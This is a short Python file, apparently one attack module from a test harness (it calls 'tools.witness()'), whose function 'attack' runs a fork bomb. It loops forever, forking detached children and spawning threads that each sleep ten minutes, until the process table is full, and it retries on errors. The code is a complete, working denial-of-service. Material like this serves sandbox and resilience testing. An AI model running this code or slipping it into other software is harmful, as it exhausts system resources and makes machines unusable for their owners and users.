"""Fills the table of processes with children that sleep and with threads."""

import os
import threading
import time


def attack(tools, original, *args, **kwargs):
    tools.witness()
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
                time.sleep(600)
            threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
        except (OSError, RuntimeError):
            time.sleep(0.01)
